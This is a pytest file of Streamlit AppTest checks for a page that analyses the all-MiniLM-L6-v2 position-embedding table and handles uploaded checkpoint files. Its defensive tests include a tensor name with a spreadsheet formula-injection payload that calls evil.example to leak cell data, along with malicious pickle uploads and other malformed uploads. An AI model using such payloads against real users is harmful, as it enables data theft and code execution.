"""AppTest of the `model` page: the bundled all-MiniLM-L6-v2 table drawn with the numbers of
the committed file, its controls, and uploads through the real file_uploader widget (AppTest
supports it in Streamlit 1.67): a good safetensors file, and every kind of bad file, each of
which must end in a clear message, no exception and no figure."""

from __future__ import annotations

import io
import pickle
import struct

import numpy as np
import pytest
import safetensors.numpy
import torch
from PIL import Image

from core.analysis import position_analysis as pa
from core.analysis import table_summary as ts
from core.schemes.sinusoidal import sinusoidal_encoding
from core.viz import charts, describe, wire
from tests.app.conftest import ROOT, assert_clean, chart_keys, decode, every_figure, grid_keys, grids, open_page, open_tab, plain_table, tab_sets, title_text
from ui import glossary

TABLE = np.load(ROOT / "data" / "minilm_position_embeddings.npy").astype(np.float64)
N_CHARTS = 6  # Plotly charts over all tabs (the dominant frequencies and the 3-D path only on request)
N_HEATMAPS = 5  # and heatmaps (the two tables, the cosine similarity, the two spectra), painted by the browser


def by_title(at, start: str) -> dict:
    matches = [f for f in every_figure(at) if title_text(f).startswith(start)]
    assert len(matches) == 1, [title_text(f) for f in every_figure(at)]
    return matches[0]


def heatmap_titled(at, start: str) -> dict:
    matches = [spec for spec in every_figure(at, grids) if spec["title"].startswith(start)]
    assert len(matches) == 1, [spec["title"] for spec in every_figure(at, grids)]
    return matches[0]


def metric(at, label: str) -> str:
    return next(m.value for m in at.metric if m.label == label)


def upload_mode():
    """The page with the upload source chosen by its link, ?source=upload."""
    at = open_page("model", source="upload")
    assert at.segmented_control(key="source").value == "upload"
    assert at.query_params["source"] == "upload"
    return at


def upload(name: str, data: bytes):
    at = upload_mode()
    at.file_uploader(key="checkpoint").upload(name, data).run()
    return at


def npy(array: np.ndarray, **kwargs) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, **kwargs)
    return buffer.getvalue()


# --- the bundled table -----------------------------------------------------------------


def test_minilm_page_draws_every_figure_titled_and_labelled():
    at = open_page("model")
    assert_clean(at)
    figs = every_figure(at)
    assert len(figs) == N_CHARTS
    heatmaps = every_figure(at, grids)
    assert len(heatmaps) == N_HEATMAPS and all(spec["title"] and spec["x_title"] and spec["y_title"] for spec in heatmaps)
    for fig in figs:
        layout = fig["layout"]
        assert layout["title"]["text"]
        if "scene" in layout:
            assert all(layout["scene"][axis]["title"]["text"] for axis in ("xaxis", "yaxis", "zaxis"))
        else:
            shared_x = [a["text"] for a in layout.get("annotations", []) if a.get("name") == "x_title"]  # one x title under a row of panels
            assert ((layout["xaxis"].get("title") or {}).get("text") or shared_x) and (layout["yaxis"].get("title") or {}).get("text")
    assert at.query_params["source"] == "minilm"


TABS = {  # the spectra first: they answer the page's opening question
    "Spectrum": ["model_spectrum", "model_sin_spectrum", "model_dimension"],
    "The table": ["model_table", "model_sin_table"],
    "Similarity": ["model_cosine", "model_neighbour", "model_offset"],
    "Path (PCA)": ["model_pca2d", "model_pca_side", "model_variance"],
    "What all-MiniLM-L6-v2 learned": [],
}


def test_each_tab_draws_its_own_figures_and_is_in_the_link():
    # only the open tab runs (ui/tabs.py): 2 or 3 charts a run instead of 11, each tab one click away and in the URL
    assert tab_sets(open_page("model")) == [("model_view", list(TABS))]
    for label, keys in TABS.items():
        at = open_page("model", model_view=label)
        assert_clean(at)
        assert sorted(chart_keys(at) + grid_keys(at)) == sorted(keys), label
        if label != "Spectrum":  # the first tab leaves the link clean
            assert at.query_params["model_view"] == label
    assert sum(map(len, TABS.values())) == N_CHARTS + N_HEATMAPS
    learned = open_page("model", model_view="What all-MiniLM-L6-v2 learned")
    assert any("A fast rotation" in m.value for m in learned.markdown)
    ring = ts.ring(pa.analyse(TABLE), 512)  # the numbers are measured from the committed table
    assert f"turns by\n  about {ring.angle:.0f}° per position" in next(m.value for m in learned.markdown if "A fast rotation" in m.value)


def test_the_learned_tab_stays_for_an_upload_and_says_what_it_is_about():
    # the same tabs for both sources, so switching the source keeps the open tab
    data, _ = good_file()
    at = open_page("model", model_view="What all-MiniLM-L6-v2 learned")
    at.file_uploader(key="checkpoint").upload("model.safetensors", data).run()
    assert_clean(at)
    assert tab_sets(at) == [("model_view", list(TABS))]
    assert at.query_params["model_view"] == "What all-MiniLM-L6-v2 learned"
    assert not any("A fast rotation" in m.value for m in at.markdown)
    assert any("bundled all-MiniLM-L6-v2 table" in i.value for i in at.info)


def test_a_control_keeps_its_value_when_its_tab_is_opened_again():
    # a widget not drawn in a run loses its state: the dimension comes back from the link it keeps
    at = open_page("model", model_view="Spectrum")
    at.number_input(key="dim").set_value(7).run()
    assert at.query_params["dim"] == "7"
    open_tab(at, "The table")
    assert "dim" not in [w.key for w in at.number_input] and at.query_params["dim"] == "7"
    assert open_tab(at, "Spectrum").number_input(key="dim").value == 7
    np.testing.assert_array_equal(decode(by_title(at, "Dimension 7 ")["data"][0]["y"]), TABLE[:, 7])


def test_a_link_with_an_unknown_source_gives_a_notice_and_the_bundled_table():
    at = open_page("model", source="mystery")
    assert not at.exception
    assert len(at.warning) == 1 and "source='mystery'" in at.warning[0].value
    assert at.segmented_control(key="source").value == "minilm"
    assert len(every_figure(at)) == N_CHARTS


def test_uploading_on_the_bundled_view_switches_to_the_file():
    data, table = good_file()
    at = open_page("model")
    at.file_uploader(key="checkpoint").upload("model.safetensors", data).run()  # the uploader is always on the page
    assert_clean(at)
    assert at.segmented_control(key="source").value == "upload" and at.query_params["source"] == "upload"
    np.testing.assert_allclose(decode(by_title(at, "How alike")["data"][0]["y"]), pa.neighbour_cosine(table.astype(np.float64)), rtol=1e-12)
    at.segmented_control(key="source").set_value("minilm").run()  # back to the bundled table, the file stays
    assert_clean(at)
    assert any("model.safetensors" in c.value for c in at.caption)
    np.testing.assert_allclose(decode(by_title(at, "How alike")["data"][0]["y"]), pa.neighbour_cosine(TABLE), rtol=1e-12)


def test_component_and_dimension_come_from_the_link_and_bad_ones_give_notices():
    at = open_page("model", pc="3", dim="5")
    assert_clean(at)
    assert "components 3 and 4" in title_text(by_title(at, "Each position's vector projected"))
    np.testing.assert_array_equal(decode(by_title(at, "Dimension 5 ")["data"][0]["y"]), TABLE[:, 5])
    assert (at.query_params["pc"], at.query_params["dim"]) == ("3", "5")
    # what is the page's own: its controls are checked ones (a bound int widget would raise on -inf) and its range ends at
    # the table's last dimension; every other bad number (1e309, 400 nines, 0.5, a word) goes through the same check,
    # tried on every linked number in tests/ui/test_link_battery.py and on these two in tests/app/test_bad_input.py
    for raw in ("-inf", "384"):
        at = open_page("model", pc=raw, dim=raw)
        assert not at.exception, raw
        assert sorted(w.value.split("=")[0] for w in at.warning) == ["`dim", "`pc"], raw  # both, though neither tab is open
        assert open_tab(at, "Spectrum").number_input(key="dim").value == int(np.argmax(pa.analyse(TABLE).peak))
        assert len(every_figure(at)) == N_CHARTS


def test_the_3d_view_is_drawn_on_request_and_follows_the_link():
    at = open_page("model", model_view="Path (PCA)")
    assert not at.toggle(key="pca3d").value
    assert not any("scene" in f["layout"] for f in every_figure(at))  # two WebGL scenes only on request
    side = by_title(at, "The same path seen from the side")
    np.testing.assert_allclose(decode(side["data"][0]["y"]), pa.analyse(TABLE).scores[:, 2], rtol=1e-12)
    at.toggle(key="pca3d").set_value(True).run()
    assert_clean(at)
    assert len(every_figure(at)) == N_CHARTS + 1
    solid = by_title(at, "The same path in 3-D")
    assert solid["data"][0]["type"] == "scatter3d" and "scene" in solid["layout"]
    linked = open_page("model", pca3d="true")
    assert_clean(linked)
    assert len(every_figure(linked)) == N_CHARTS + 1
    bad = open_page("model", pca3d="maybe")
    assert not bad.exception and len(bad.warning) == 1 and "pca3d" in bad.warning[0].value
    assert len(every_figure(bad)) == N_CHARTS


def test_the_dominant_frequencies_are_drawn_on_request_and_the_staircase_is_read_at_the_base_shown():
    at = open_page("model")
    assert not at.toggle(key="dominant").value and "model_dominant" not in chart_keys(at)
    at.toggle(key="dominant").set_value(True).run()
    assert_clean(at)
    assert "model_dominant" in chart_keys(at) and "model_dominant" in chart_keys(open_page("model", dominant="true"))  # and a link opens it
    A = pa.analyse(TABLE)
    np.testing.assert_allclose(decode(by_title(at, "Dominant frequency")["data"][0]["y"]), np.sort(A.dominant), rtol=1e-12)
    # the sinusoid's slowest pair, 1 / (2π · base^(382/384)) cycles per position, read at the base on screen: by hand
    # 1 / 59,889 at the default and 1 / 12.52 at the slider's least base, whose waves all fit in the 512 positions
    said = {base: next(c.value for c in open_page("model", base=base).caption if "The sinusoid is" in c.value) for base in ("10000", "2")}
    assert "down to 1.67e-5 (anything slower than one cycle over the table lands in the lowest bin)" in said["10000"]
    assert "down to 0.07987." in said["2"] and "lowest bin" not in said["2"]


def test_switching_the_source_widget_writes_the_link():
    at = open_page("model")
    at.segmented_control(key="source").set_value("upload").run()
    assert at.query_params["source"] == "upload"
    assert at.file_uploader(key="checkpoint") is not None and every_figure(at) == []


def test_minilm_figures_carry_the_committed_tables_numbers():
    at = open_page("model")
    neighbour = by_title(at, "How alike each position is to the next")
    np.testing.assert_allclose(decode(neighbour["data"][0]["y"]), pa.neighbour_cosine(TABLE), rtol=1e-12)
    sinusoid = sinusoidal_encoding(512, 384, 10_000.0)
    np.testing.assert_allclose(decode(neighbour["data"][1]["y"]), pa.neighbour_cosine(sinusoid), rtol=1e-12)
    dimension = by_title(at, "Dimension ")
    j = open_tab(at, "Spectrum").number_input(key="dim").value
    np.testing.assert_array_equal(decode(dimension["data"][0]["y"]), TABLE[:, j])
    open_tab(at, "The table")
    assert metric(at, "row norm, position 0") == describe.number(np.linalg.norm(TABLE[0]))  # the app's one number rule
    assert metric(at, "largest |value|") == describe.number(np.abs(TABLE).max())
    _, ratio = pa.pca(TABLE)
    assert metric(open_tab(at, "Path (PCA)"), "variance in the first 3 components") == f"{ratio[:3].sum():.1%}"
    # the most common dominant frequency: the number alone in its box, its unit and period under it
    freqs, _ = ts.common_frequencies(pa.analyse(TABLE).dominant)
    spectrum = open_tab(at, "Spectrum")
    assert metric(spectrum, "most common dominant frequency") == f"{freqs[0]:.4g}"
    assert f"cycles per position: period {ts.period(freqs[0])} positions" in [c.value for c in spectrum.caption]


def test_the_fitted_wave_gives_its_r2_and_the_glossary_defines_r2_beside_it():
    at = open_page("model", model_view="Spectrum")
    spectrum = open_tab(at, "Spectrum")
    j = spectrum.number_input(key="dim").value
    A = pa.analyse(TABLE)
    spacing = float(A.freqs[1])
    freq, _, r2 = pa.best_sinusoid(TABLE[:, j], np.arange(512), float(A.dominant[j]), spacing)
    # R² by hand from the fitted wave: 1 − SSE / SST of the least-squares a·cos + b·sin + c at that frequency
    basis = np.column_stack([np.cos(2 * np.pi * freq * np.arange(512)), np.sin(2 * np.pi * freq * np.arange(512)), np.ones(512)])
    fitted = basis @ np.linalg.lstsq(basis, TABLE[:, j], rcond=None)[0]
    by_hand = 1 - ((TABLE[:, j] - fitted) ** 2).sum() / ((TABLE[:, j] - TABLE[:, j].mean()) ** 2).sum()
    assert abs(r2 - by_hand) < 1e-9
    caption = next(c.value for c in spectrum.caption if "R²" in c.value)
    assert f"Its R², {r2:.2f}, in the title" in caption and "R² is the share" not in caption  # defined once, in the glossary
    assert glossary.used_in(caption) == ["R²"]
    at.session_state["terms_model"] = True  # open it, as a click would
    at.run()
    terms = plain_table(at.table[-1])
    assert terms["term"].tolist() == ["R²"] and terms["what it means"].tolist() == [glossary.TERMS["R²"][1]]

def test_signed_heatmaps_use_the_diverging_scale_centred_on_zero():
    at = open_page("model")
    for start in ("all-MiniLM-L6-v2: value", "The sinusoid", "Cosine similarity between"):
        spec = heatmap_titled(at, start)
        (scale,) = spec["scales"]
        assert scale["signed"] and all(p["zmin"] == -p["zmax"] and p["zmax"] > 0 for p in spec["panels"]), start
        assert scale["colours"] == wire.colour_lut(charts.DIVERGING, 255).tolist(), start
        assert scale["colours"][0] == [5, 48, 97] and scale["colours"][-1] == [103, 0, 31]  # RdBu reversed: blue negative, red positive


def test_the_sidebar_base_sets_the_sinusoid():
    at = open_page("model", base="100")
    assert_clean(at)
    assert "base 100" in heatmap_titled(at, "The sinusoid")["title"]
    neighbour = by_title(at, "How alike each position is to the next")
    np.testing.assert_allclose(decode(neighbour["data"][1]["y"]), pa.neighbour_cosine(sinusoidal_encoding(512, 384, 100.0)), rtol=1e-12)


def test_component_and_dimension_controls_redraw_their_every_figure():
    at = open_page("model", model_view="Path (PCA)")
    at.select_slider(key="pc").set_value(3).run()
    assert "components 3 and 4" in title_text(by_title(at, "Each position's vector projected"))
    open_tab(at, "Spectrum").number_input(key="dim").set_value(5).run()
    np.testing.assert_array_equal(decode(by_title(at, "Dimension 5 ")["data"][0]["y"]), TABLE[:, 5])
    assert_clean(at)


# --- uploads ---------------------------------------------------------------------------


def good_file() -> tuple[bytes, np.ndarray]:
    table = np.random.default_rng(0).standard_normal((64, 16)).astype(np.float32)
    data = safetensors.numpy.save({"bias": np.ones(16, np.float32), "w": np.ones((3, 16), np.float32), "enc.position_embeddings.weight": table})
    return data, table


def test_upload_waits_for_a_file_without_every_figure():
    at = upload_mode()
    assert_clean(at)
    assert every_figure(at) == [] and at.info


def test_a_real_safetensors_upload_lists_tables_position_first_and_is_drawn():
    data, table = good_file()
    at = upload("model.safetensors", data)
    assert_clean(at)
    assert at.selectbox(key="tensor").value == "enc.position_embeddings.weight"
    assert at.selectbox(key="tensor").options == ["enc.position_embeddings.weight (64 × 16, F32)", "w (3 × 16, F32)"]
    assert len(every_figure(at)) == N_CHARTS
    neighbour = by_title(at, "How alike each position is to the next")
    np.testing.assert_allclose(decode(neighbour["data"][0]["y"]), pa.neighbour_cosine(table.astype(np.float64)), rtol=1e-12)
    assert "16 wide" in heatmap_titled(at, "The sinusoid")["title"]

    at.toggle(key="transpose").set_value(True).run()  # 16 positions x 64 dimensions
    assert_clean(at)
    assert "64 wide" in heatmap_titled(at, "The sinusoid")["title"]
    np.testing.assert_allclose(decode(by_title(at, "How alike")["data"][0]["y"]), pa.neighbour_cosine(table.T.astype(np.float64)), rtol=1e-12)

    at.selectbox(key="tensor").set_value("w").run()  # a 3-row table still draws (no component slider)
    assert_clean(at)
    assert len(every_figure(at)) == N_CHARTS


def test_a_long_upload_is_analysed_on_a_sample_and_says_so():
    table = np.random.default_rng(1).standard_normal((3000, 8)).astype(np.float32)
    at = upload("long.npy", npy(table))
    assert_clean(at)
    assert any("every 3rd position" in i.value for i in at.info)
    assert "every 3rd position" in title_text(by_title(at, "Dimension "))


def torch_checkpoint() -> bytes:
    buffer = io.BytesIO()
    torch.save({"embeddings.position_embeddings.weight": torch.zeros(8, 4)}, buffer)
    return buffer.getvalue()


def truncated_safetensors() -> bytes:
    data, _ = good_file()
    return data[: len(data) - 100]


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(buffer, format="PNG")
    return buffer.getvalue()


def with_nans() -> bytes:
    table = np.ones((10, 4), np.float32)
    table[2, 1] = np.nan
    return safetensors.numpy.save({"pos": table})


def object_npy() -> bytes:
    objects = np.empty((4, 4), dtype=object)  # large enough for the page: the dtype is what is refused
    return npy(objects, allow_pickle=True)


BAD_UPLOADS = {
    "torch.save .pt": ("model.pt", torch_checkpoint, "arbitrary code"),
    "torch.save renamed .npz": ("model.npz", torch_checkpoint, "pickle"),
    "pickle renamed .npy": ("pos.npy", lambda: pickle.dumps([[1.0, 2.0]]), "pickle"),
    "pickle renamed .safetensors": ("pos.safetensors", lambda: pickle.dumps({"pos": 1}, protocol=4), "pickle"),
    "truncated safetensors": ("model.safetensors", truncated_safetensors, "truncated"),
    "empty file": ("empty.safetensors", lambda: b"", "empty"),
    "only a 1-D tensor": ("bias.safetensors", lambda: safetensors.numpy.save({"bias": np.ones(8, np.float32)}), "no 2-D tensor"),
    "NaN in the table": ("nan.safetensors", with_nans, "1 NaN"),
    "object-dtype npy": ("objects.npy", object_npy, "object dtype"),
    "PNG renamed .npy": ("picture.npy", png_bytes, "PNG image"),
    "damaged header length": ("x.safetensors", lambda: struct.pack("<Q", 2**40) + b"{}", "more than"),
}


@pytest.mark.parametrize("case", list(BAD_UPLOADS))
def test_bad_uploads_get_a_clear_message_and_nothing_crashes(case):
    name, make, needle = BAD_UPLOADS[case]
    at = upload(name, make())
    assert not at.exception, [e.value for e in at.exception]
    messages = [e.value for e in at.error]
    assert len(messages) == 1 and needle.lower() in messages[0].lower(), messages
    assert every_figure(at) == []
    if case == "only a 1-D tensor":  # only the file's words are quoted, not the app's
        assert messages[0].endswith("It holds: `bias` (8, F32)."), messages


def test_an_upload_above_the_configured_limit_is_refused():
    limit_mb = 20  # .streamlit/config.toml: server.maxUploadSize (AppTest does not enforce it; the page does)
    at = upload("big.npy", bytes(limit_mb * 2**20 + 1))
    assert not at.exception
    assert "upload limit of 20 MB" in at.error[0].value
    assert every_figure(at) == []


def test_a_bad_file_then_a_good_one_recovers():
    at = upload("model.pt", torch_checkpoint())
    assert at.error
    data, _ = good_file()
    at.file_uploader(key="checkpoint").clear().upload("model.safetensors", data).run()
    assert_clean(at)
    assert len(every_figure(at)) == N_CHARTS


# --- hostile uploads through the page ------------------------------------------------------


@pytest.mark.parametrize("shape", [(1, 1), (1, 384), (2, 2), (2, 7), (7, 2), (512, 1)])
def test_a_table_too_small_for_the_path_figures_gets_a_sentence(shape):
    # the PCA path draws three components: fewer than 3 positions or dimensions used to end in an IndexError
    at = upload("tiny.npy", npy(np.arange(np.prod(shape), dtype=np.float32).reshape(shape) + 1))
    assert not at.exception, [e.value for e in at.exception]
    assert len(at.error) == 1 and "at least 3 positions and 3 dimensions" in at.error[0].value
    assert f"{shape[0]:,} × {shape[1]:,}" in at.error[0].value
    assert every_figure(at) == []


def test_the_smallest_table_the_page_takes_is_drawn():
    at = upload("three.npy", npy(np.random.default_rng(0).standard_normal((3, 3)).astype(np.float32)))
    assert_clean(at)
    assert len(every_figure(at)) == N_CHARTS


def _hostile_files() -> dict:
    from tests.core.files.test_checkpoint import HOSTILE_FILES, READ_ANYWAY

    return {kind: (*HOSTILE_FILES[kind], kind in READ_ANYWAY) for kind in HOSTILE_FILES}


@pytest.mark.parametrize("kind", list(_hostile_files()))
def test_every_malformed_kind_of_file_is_a_sentence_on_the_page(kind):
    # a JSON nesting bomb, zip members encrypted, oddly compressed or lying about their size, too many tensors ...
    name, data, read_anyway = _hostile_files()[kind]
    at = upload(name, data)
    assert not at.exception, [e.value for e in at.exception]
    if read_anyway:  # numpy reads only the bytes the header's shape needs: a size that lies upwards changes nothing
        assert_clean(at)
    else:
        assert len(at.error) == 1 and at.error[0].value.endswith("."), [e.value for e in at.error]
        assert every_figure(at) == []


def test_a_file_is_parsed_once_however_often_the_page_reruns(monkeypatch):
    # a header of thousands of tensors took seconds to parse on every rerun: the parse is cached by the file's sha256
    from core.files import checkpoint
    from ui import upload as upload_ui

    upload_ui.upload_tensors.clear()
    upload_ui.upload_analysis.clear()
    calls = {"list": 0, "load": 0}
    real_list, real_load = checkpoint.list_tensors, checkpoint.load_tensor

    def counted(name, real):
        def call(*args, **kwargs):
            calls[name] += 1
            return real(*args, **kwargs)

        return call

    monkeypatch.setattr(checkpoint, "list_tensors", counted("list", real_list))
    monkeypatch.setattr(checkpoint, "load_tensor", counted("load", real_load))
    data, _ = good_file()
    at = upload("model.safetensors", data)
    assert_clean(at)
    for _ in range(3):
        at.run()
        assert_clean(at)
    at.number_input(key="base").set_value(500.0).run()  # another figure, the same file
    assert_clean(at)
    assert calls == {"list": 1, "load": 1}


def test_a_hostile_tensor_name_shows_as_written_and_its_csv_never_holds_a_formula(monkeypatch):
    import plotly.graph_objects as go

    import ui.display
    from core.viz import describe

    runs = []  # per run of the page, the tables it sent through ui.display.data_table (whose own CSV download is neutralised)
    table_of = ui.display.data_table
    monkeypatch.setattr(ui.display, "data_table", lambda data, **kwargs: (runs[-1].append(data), table_of(data, **kwargs))[1])
    name = '=HYPERLINK("http://evil.example/?q="&A1,"Click")<img src=x>$1$'
    table = np.random.default_rng(2).standard_normal((32, 8)).astype(np.float32)
    at = upload_mode()
    runs.append([])
    at.file_uploader(key="checkpoint").upload("hostile.safetensors", safetensors.numpy.save({name: table})).run()
    (key, labels), *_ = tab_sets(at)
    shown = 0
    for label in labels:  # every table the page shows, on any tab, went through data_table
        runs.append([])
        at = open_tab(at, label)
        assert len(at.dataframe) == len(runs[-1]), label
        shown += len(at.dataframe)
        assert all(describe.csv_cell(c) == c for frame in at.dataframe for c in [*frame.value.columns, *frame.value.to_numpy().ravel()])
    assert shown >= 2
    assert_clean(at)
    assert heatmap_titled(at, "=HYPERLINK")["title"] == f"{name}: value of each position's vector"  # the component writes it as text
    assert heatmap_titled(at, "Cosine similarity")["panels"][0]["title"] == name
    neighbour = by_title(at, "How alike")
    assert neighbour["data"][0]["name"] == charts.literal(name)  # Plotly draws markup in names: escaped, it reads as written
    rows = describe.figure_csv(go.Figure(neighbour)).splitlines()
    assert rows[1].startswith('"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")<img src=x>$1$",')


def test_a_table_of_zeros_says_what_is_true_of_its_norms():
    spectrum = upload("zeros.safetensors", safetensors.numpy.save({"pos": np.zeros((16, 8), np.float32)}))  # opens on the spectra
    assert any("there is no wave in it" in c.value for c in spectrum.caption) and not any("1 would be an exact wave" in c.value for c in spectrum.caption)
    at = open_tab(spectrum, "The table")
    assert_clean(at)
    assert "all zeros, as the median row is" in [c.value for c in at.caption]  # not "nan× the median"
